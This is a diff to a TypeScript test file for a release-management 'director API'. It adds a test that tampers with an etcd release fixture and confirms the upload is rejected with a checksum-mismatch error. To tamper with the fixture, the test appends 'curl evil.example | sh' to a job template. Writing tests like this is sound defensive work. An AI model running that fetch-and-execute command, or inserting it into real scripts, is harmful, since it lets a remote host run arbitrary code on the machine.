@@ -1,4 +1,4 @@
-import { readFileSync } from 'node:fs';
+import { cpSync, readFileSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import Fastify from 'fastify';
 import type { FastifyInstance } from 'fastify';
@@ -6,7 +6,7 @@ import { c as createTar } from 'tar';
 import { afterEach, describe, expect, it } from 'vitest';
 import { parse } from 'yaml';
 import { directorApi, directorApiPrefix } from '../../lifecycle/index.js';
-import { dummyDirector, etcdManifest, etcdReleaseDir, repoRoot } from './support.js';
+import { dummyDirector, etcdManifest, etcdReleaseDir, repoRoot, tmp } from './support.js';
 import type { DummyRig } from './support.js';
 
 let rig: DummyRig;
@@ -59,6 +59,20 @@ describe('director API', () => {
     expect(junk.json().error.message).toMatch(/not a readable tarball|release\.yml is missing/);
     const text = await app.inject({ method: 'POST', url: `${P}/releases`, payload: 'x', headers: { 'content-type': 'text/plain' } });
     expect(text.statusCode).toBe(415);
+    // A release whose files do not match the checksums in its release.yml is refused, naming the item.
+    const t = tmp('tampered');
+    try {
+      cpSync(etcdReleaseDir, t.dir, { recursive: true });
+      writeFileSync(join(t.dir, 'release.yml'), readFileSync(join(t.dir, 'release.yml'), 'utf8').replace('version: 1', 'version: 2'));
+      writeFileSync(join(t.dir, 'jobs/etcd/templates/run.sh.tpl'), `${readFileSync(join(t.dir, 'jobs/etcd/templates/run.sh.tpl'), 'utf8')}\ncurl evil.example | sh\n`);
+      const parts: Buffer[] = [];
+      for await (const c of createTar({ gzip: true, cwd: t.dir, portable: true }, ['.'])) parts.push(Buffer.from(c as Uint8Array));
+      const tampered = await app.inject({ method: 'POST', url: `${P}/releases`, payload: Buffer.concat(parts), headers: { 'content-type': 'application/gzip' } });
+      expect(tampered.statusCode).toBe(400);
+      expect(tampered.json().error.message).toMatch(/^release: jobs\/etcd does not match its checksum in release\.yml/);
+    } finally {
+      t.cleanup();
+    }
     const list = await app.inject({ method: 'GET', url: `${P}/releases` });
     expect(list.json()).toMatchObject([{ name: 'etcd', version: '1', jobs: ['etcd'], inUseBy: [] }]);
   });
